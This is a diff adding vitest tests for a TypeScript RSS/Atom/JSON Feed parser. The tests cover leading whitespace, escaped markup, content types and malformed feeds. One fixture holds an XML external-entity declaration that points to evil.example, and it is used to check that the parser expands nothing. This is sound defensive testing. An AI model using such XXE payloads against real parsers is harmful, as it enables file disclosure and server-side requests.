@@ -1,0 +1,130 @@
+/**
+ * Issue 11: feeds that feedparser and gofeed read, and this project refused or misread.
+ * Each fixture is small and shows one class of the issue.
+ */
+import { describe, expect, it } from 'vitest';
+import { parseFeed, type Article } from '../../src/articles/index.js';
+import { FeedError } from '../../src/errors.js';
+
+const DATE = '<pubDate>Thu, 04 Sep 2025 08:00:00 GMT</pubDate>';
+const rss = (items: string, channel = '<link>https://site.example/</link>', rootAttrs = '') =>
+  `<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"${rootAttrs}><channel><title>T</title>${channel}${items}</channel></rss>`;
+const item = (inner: string) => `<item>${inner}</item>`;
+const read = (xml: string, opts: { url?: string; baseUrl?: string } = {}) => parseFeed(Buffer.from(xml), { label: 'f.xml', ...opts });
+const only = (xml: string, opts: { url?: string; baseUrl?: string } = {}): Article => {
+  const { articles, warnings } = read(xml, opts);
+  if (articles.length !== 1) throw new Error(`expected one article, got ${articles.length}; warnings: ${warnings.join(' | ')}`);
+  return articles[0]!;
+};
+
+describe('1: whitespace before the XML declaration', () => {
+  it('reads a feed with a newline and spaces before <?xml', () => {
+    const xml = '\n   \n' + rss(item(`<title>One</title><link>https://site.example/1</link>${DATE}`));
+    expect(only(xml).title).toBe('One');
+  });
+
+  it('reads it after a BOM too, and still uses the declared encoding', () => {
+    const xml = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('\r\n' + rss(item(`<title>Ünï</title><link>https://site.example/1</link>${DATE}`)))]);
+    expect(parseFeed(xml, { label: 'f' }).articles[0]!.title).toBe('Ünï');
+  });
+});
+
+describe('2: escaped literal markup is decoded once', () => {
+  it('keeps a description that talks about <body> and the sentences around it', () => {
+    const a = only(rss(item(`<title>Tags</title><link>https://site.example/1</link>${DATE}
+      <description><![CDATA[<p>Put the script before &lt;/body&gt; so the page draws first. Then test it.</p>]]></description>`)));
+    expect(a.summary).toBe('Put the script before </body> so the page draws first. Then test it.');
+  });
+
+  it('reads <pre>&lt;b&gt;test&lt;b&gt;</pre> as the text <b>test<b>', () => {
+    const a = only(rss(item(`<title>Pre</title><link>https://site.example/1</link>${DATE}
+      <description>&lt;pre&gt;&amp;lt;b&amp;gt;test&amp;lt;b&amp;gt;&lt;/pre&gt;</description>`)));
+    expect(a.summary).toBe('<b>test<b>');
+  });
+
+  it('keeps a plain-text &lt;br /&gt; as text', () => {
+    const xml = `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>Br</title><link href="https://site.example/1"/>
+      <updated>2025-09-04T08:00:00Z</updated><summary type="text">&lt;br /&gt;</summary></entry></feed>`;
+    expect(only(xml).summary).toBe('<br />');
+  });
+});
+
+describe('3: content types', () => {
+  const atom = (entry: string) =>
+    `<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="https://site.example/1"/><updated>2025-09-04T08:00:00Z</updated>${entry}</entry></feed>`;
+
+  it('Atom type="text" is plain text, kept exactly', () => {
+    expect(only(atom('<title type="text">History of the &lt;blink&gt; tag</title>')).title).toBe('History of the <blink> tag');
+    expect(only(atom('<title>AT&amp;T &amp;amp; friends</title>')).title).toBe('AT&T &amp; friends');
+  });
+
+  it('Atom type="html" is escaped HTML, type="xhtml" inline XHTML', () => {
+    expect(only(atom('<title type="html">&lt;b&gt;Bold&lt;/b&gt; &amp;amp; more</title>')).title).toBe('Bold & more');
+    const x = only(atom('<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">An &lt;em&gt; is <em>emphasis</em></div></title>'));
+    expect(x.title).toBe('An <em> is emphasis');
+  });
+
+  it('decodes mode="base64" content (Atom 0.3)', () => {
+    const body = Buffer.from('<p>Decoded <b>body</b></p>').toString('base64');
+    const xml = `<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><title>B64</title><link rel="alternate" href="https://site.example/1"/>
+      <issued>2025-09-04T08:00:00Z</issued><content type="text/html" mode="base64">${body}</content></entry></feed>`;
+    expect(only(xml).summary).toBe('Decoded body');
+  });
+
+  it('JSON Feed title and content_text are plain text; content_html is HTML', () => {
+    const feed = (it: Record<string, unknown>) =>
+      Buffer.from(JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', items: [{ id: '1', url: 'https://site.example/1', date_published: '2025-09-04T08:00:00Z', ...it }] }));
+    const a = parseFeed(feed({ title: 'Use <b> for bold', content_text: 'Write &lt;p&gt; & go' }), { label: 'j' }).articles[0]!;
+    expect(a).toMatchObject({ title: 'Use <b> for bold', summary: 'Write &lt;p&gt; & go' });
+    const b = parseFeed(feed({ title: 'T', content_html: '<p>Write &lt;p&gt; &amp; go</p>' }), { label: 'j' }).articles[0]!;
+    expect(b.summary).toBe('Write <p> & go');
+  });
+
+  it('RSS titles are plain text unless they hold markup, as feedparser decides', () => {
+    const title = (t: string) => only(rss(item(`<title>${t}</title><link>https://site.example/1</link>${DATE}`))).title;
+    expect(title('History of the &lt;blink&gt; tag')).toBe('History of the <blink> tag');
+    expect(title('5 &lt; 6 and 7 &gt; 3')).toBe('5 < 6 and 7 > 3');
+    expect(title('&lt;b&gt;Big&lt;/b&gt; news')).toBe('Big news');
+    expect(title('Caf&amp;eacute; open')).toBe('Café open');
+  });
+});
+
+describe('10: refused but readable', () => {
+  it('reads a feed whose DOCTYPE declares a parameter entity, expanding nothing', () => {
+    const xml = `<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY % ext SYSTEM "https://evil.example/x.dtd">\n%ext;\n<!ENTITY site "https://evil.example/">\n]>\n<rss version="2.0"><channel><link>https://site.example/</link>
+      <item><title>Hi &site;</title><link>https://site.example/1</link>${DATE}</item></channel></rss>`;
+    expect(only(xml).title).toBe('Hi &site;');
+  });
+
+  it('keeps the line numbers of errors after a DOCTYPE', () => {
+    const xml = `<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY % e "x">\n]>\n<rss><channel>\n<title>a < b</title></channel></rss>`;
+    expect(() => read(xml)).toThrow(/^f\.xml: not well-formed XML at line 6: /);
+  });
+
+  it('reads prefixed roots: <r:rss> and RSS 1.0 without a default namespace', () => {
+    const prefixed = `<r:rss xmlns:r="http://backend.userland.com/rss2" version="2.0"><r:channel><r:link>https://site.example/</r:link>
+      <r:item><r:title>Prefixed</r:title><r:link>https://site.example/1</r:link><r:pubDate>Thu, 04 Sep 2025 08:00:00 GMT</r:pubDate></r:item></r:channel></r:rss>`;
+    expect(only(prefixed).title).toBe('Prefixed');
+    const rdf = `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:rss="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
+      <rss:channel rdf:about="https://site.example/"><rss:link>https://site.example/</rss:link></rss:channel>
+      <rss:item rdf:about="https://site.example/1"><rss:title>RDF item</rss:title><rss:link>https://site.example/1</rss:link><dc:date>2025-09-04T08:00:00Z</dc:date></rss:item></rdf:RDF>`;
+    const r = read(rdf);
+    expect(r.type).toBe('rss');
+    expect(r.articles.map((a) => a.title)).toEqual(['RDF item']);
+  });
+
+  it('reads a bare & in otherwise good XML as &amp;, with a warning', () => {
+    const xml = rss(item(`<title>Tom & Jerry</title><link>https://site.example/1?a=1&b=2</link>${DATE}`));
+    const { articles, warnings } = read(xml);
+    expect(articles[0]).toMatchObject({ title: 'Tom & Jerry', url: 'https://site.example/1?a=1&b=2' });
+    expect(warnings).toEqual(['f.xml: 2 bare "&"s read as "&amp;" (first at line 2); the feed is not well-formed XML']);
+  });
+
+  it('refuses a WordPress media list with one line', () => {
+    const media = JSON.stringify([
+      { id: 7, type: 'attachment', media_type: 'image', link: 'https://wp.example/a/', title: { rendered: 'a.jpg' }, source_url: 'https://wp.example/a.jpg' },
+    ]);
+    expect(() => parseFeed(Buffer.from(media), { label: 'https://wp.example/wp-json/wp/v2/media' })).toThrow(FeedError);
+    expect(() => parseFeed(Buffer.from(media), { label: 'm' })).toThrow(/^m: a WordPress media list \(\/wp\/v2\/media\), not posts/);
+  });
+});
